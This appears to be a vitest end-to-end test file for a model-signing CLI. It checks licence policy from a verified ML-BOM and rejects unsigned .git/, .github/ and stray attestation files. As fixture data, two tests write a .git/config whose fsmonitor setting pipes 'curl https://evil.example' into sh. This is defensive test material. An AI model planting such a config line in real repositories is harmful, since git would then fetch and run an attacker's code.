/**
 * `check` applies the whole local policy and ignores only what it was told to (issue 12), end to end through the
 * built CLI against a malicious registry: licences from the verified ML-BOM, a required ML-BOM, and unsigned files
 * (`.git/`, `.github/`, stray `*.att.sig`) fail unless an explicit `--ignore` covers them (a path the signer left out
 * is vouched for by no one; only .gitattributes and .gitignore, plain data to git, are honoured from the signature).
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { attestModel, generateSigningKey } from '@modelsec/core';
import { describe, expect, it, vi } from 'vitest';
import { runCli } from '../../helpers/cli.js';
import {
  failedCodes,
  freshClient,
  MaliciousRegistry,
  type SignedFixture,
  signedFixture,
  tempFile,
} from '../../helpers/malicious-registry.js';

// Each test runs the built CLI several times as child processes; on a loaded machine one run takes seconds.
vi.setConfig({ testTimeout: 240_000 });

const BOM_TYPE = 'https://cyclonedx.org/bom';

function bom(license: string): Buffer {
  return Buffer.from(
    JSON.stringify({
      bomFormat: 'CycloneDX',
      specVersion: '1.6',
      version: 1,
      serialNumber: 'urn:uuid:3e671687-395b-41f5-a30f-a58921a69b79',
      metadata: { component: { type: 'machine-learning-model', name: 'tiny', licenses: [{ license: { id: license } }] } },
    }),
  );
}

async function withRegistry(fn: (r: MaliciousRegistry) => Promise<void>): Promise<void> {
  const r = await MaliciousRegistry.start();
  try {
    await fn(r);
  } finally {
    await r.close();
  }
}

const check = (r: MaliciousRegistry, m: SignedFixture, args: string[]) =>
  runCli(['check', m.dir, '--public-key', tempFile('k.pub', m.publicKeyPem), '--json', ...args], { env: freshClient(r) });

describe('the whole local policy', () => {
  it('licences come from the verified ML-BOM: a disallowed licence, a missing or swapped ML-BOM fail; the allowed one passes', async () => {
    const m = await signedFixture();
    const policy = (allowed: string[], required = true) =>
      tempFile('p.json', JSON.stringify({ models: ['acme/tiny'], mlbom: { required }, licenses: { allowed } }));
    await withRegistry(async (r) => {
      const digest = r.addBlob(bom('MIT'));
      r.publish(m, { version: '1.0.0', attachments: [{ kind: 'mlbom', digest }] });
      expect(failedCodes((await check(r, m, ['--policy', policy(['Apache-2.0'])])).json())).toEqual(['LICENSE_DENIED']);
      const ok = await check(r, m, ['--policy', policy(['MIT'])]);
      expect(ok.json()).toMatchObject({ verified: true, policySource: 'local' });
      // The registry serves another document under the logged digest: neither the ML-BOM nor its licences count.
      r.blobs.set(digest, bom('Apache-2.0'));
      expect(failedCodes((await check(r, m, ['--policy', policy(['Apache-2.0'])])).json())).toEqual([
        'LICENSE_DENIED',
        'MLBOM_REQUIRED',
      ]);
    });
    await withRegistry(async (r) => {
      r.publish(m, { version: '1.0.0' });
      expect(failedCodes((await check(r, m, ['--policy', policy(['MIT'])])).json())).toEqual([
        'LICENSE_DENIED',
        'MLBOM_REQUIRED',
      ]);
    });
  });

  it('the logged namespace policy applies when there is no local policy (its licences too)', async () => {
    const m = await signedFixture();
    await withRegistry(async (r) => {
      r.policy('acme', { licenses: { allowed: ['Apache-2.0'] } });
      const digest = r.addBlob(bom('MIT'));
      r.publish(m, { version: '1.0.0', attachments: [{ kind: 'mlbom', digest }] });
      const res = await check(r, m, ['--name', 'acme/tiny']);
      expect(res.json()).toMatchObject({ policySource: 'log' });
      expect(failedCodes(res.json())).toEqual(['LICENSE_DENIED']);
    });
  });

  it('a local policy that does not match the schema is a usage error (INVALID_CONFIG), never silently partial', async () => {
    const m = await signedFixture();
    await withRegistry(async (r) => {
      r.publish(m, { version: '1.0.0' });
      const res = await check(r, m, ['--policy', tempFile('p.json', JSON.stringify({ models: ['acme/tiny'], licences: {} }))]);
      expect(res.code).toBe(2);
      expect(res.json()).toMatchObject({ error: { code: 'INVALID_CONFIG' } });
    });
  });
});

describe('unsigned files fail unless the signature or --ignore covers them', () => {
  it('.git/ and .github/ fail when the signature did not record them; --ignore covers them; check and verify agree', async () => {
    const m = await signedFixture(undefined, { ignoreGitPaths: false });
    mkdirSync(path.join(m.dir, '.git'));
    writeFileSync(path.join(m.dir, '.git', 'config'), '[core]\n\tfsmonitor = "curl https://evil.example | sh"\n');
    mkdirSync(path.join(m.dir, '.github', 'workflows'), { recursive: true });
    writeFileSync(path.join(m.dir, '.github', 'workflows', 'ci.yml'), 'on: push\n');
    await withRegistry(async (r) => {
      r.publish(m, { version: '1.0.0' });
      const res = await check(r, m, ['--name', 'acme/tiny']);
      expect(res.code).toBe(1);
      expect(failedCodes(res.json())).toEqual(['SIGNING_FILE_EXTRA', 'SIGNING_FILE_EXTRA']);
      expect(JSON.stringify(res.json())).toContain('.git/config');
      const ignored = await check(r, m, ['--name', 'acme/tiny', '--ignore', '.git', '--ignore', '.github']);
      expect(ignored.json()).toMatchObject({ verified: true });
    });
    const verify = await runCli(['verify', 'key', m.dir, '--public-key', tempFile('k.pub', m.publicKeyPem), '--json']);
    expect(verify.code).toBe(1);
    expect(verify.json()).toMatchObject({ error: { code: 'SIGNING_FILE_EXTRA' } });
  });

  it('.git/ fails even when the signer left it out (what `sign` does by default): only --ignore accepts it; .gitattributes passes', async () => {
    // A model copied with its .git/ (a clone, or a man in the middle adding one): nobody signed what is in there,
    // and git runs what its config names (core.fsmonitor, hooks) in the next git command in that directory.
    const m = await signedFixture();
    mkdirSync(path.join(m.dir, '.git'));
    writeFileSync(path.join(m.dir, '.git', 'HEAD'), 'ref: refs/heads/main\n');
    writeFileSync(path.join(m.dir, '.git', 'config'), '[core]\n\tfsmonitor = "curl https://evil.example | sh"\n');
    writeFileSync(path.join(m.dir, '.gitattributes'), '*.safetensors filter=lfs diff=lfs merge=lfs -text\n');
    await withRegistry(async (r) => {
      r.publish(m, { version: '1.0.0' });
      const res = await check(r, m, ['--name', 'acme/tiny']);
      expect(res.code).toBe(1);
      expect(failedCodes(res.json())).toEqual(['SIGNING_FILE_EXTRA', 'SIGNING_FILE_EXTRA']);
      const text = JSON.stringify(res.json());
      expect(text).toContain('.git/config');
      expect(text).toContain('the signer left it out of the signature');
      expect(text).not.toContain('.gitattributes');
      expect((await check(r, m, ['--name', 'acme/tiny', '--ignore', '.git'])).json()).toMatchObject({ verified: true });
    });
  });

  it('a stray *.att.sig fails (check and verify); the verified attestation of the version, kept beside model.sig, passes', async () => {
    const m = await signedFixture();
    const stranger = generateSigningKey();
    const honest = Buffer.from(
      JSON.stringify((await attestModel(m.model, BOM_TYPE, { bom: 1 }, { kind: 'key', privateKeyPem: m.privateKeyPem })).bundle),
    );
    const stray = Buffer.from(
      JSON.stringify(
        (await attestModel(m.model, BOM_TYPE, { bom: 1 }, { kind: 'key', privateKeyPem: stranger.privateKeyPem })).bundle,
      ),
    );
    await withRegistry(async (r) => {
      const digest = r.addBlob(honest);
      r.publish(m, { version: '1.0.0', attachments: [{ kind: 'attestation', digest, predicateType: BOM_TYPE }] });
      writeFileSync(path.join(m.dir, 'model.cyclonedx.org_bom.att.sig'), honest);
      expect((await check(r, m, ['--name', 'acme/tiny'])).json()).toMatchObject({ verified: true });
      writeFileSync(path.join(m.dir, 'model.evil.att.sig'), stray);
      const res = await check(r, m, ['--name', 'acme/tiny']);
      expect(failedCodes(res.json())).toEqual(['SIGNING_FILE_EXTRA']);
      expect(JSON.stringify(res.json())).toContain('model.evil.att.sig');
      const verify = await runCli(['verify', 'key', m.dir, '--public-key', tempFile('k.pub', m.publicKeyPem), '--json']);
      expect(verify.code).toBe(1);
      expect(verify.json()).toMatchObject({
        error: { code: 'SIGNING_KEY_MISMATCH', message: expect.stringContaining('model.evil.att.sig') },
      });
    });
  });
});
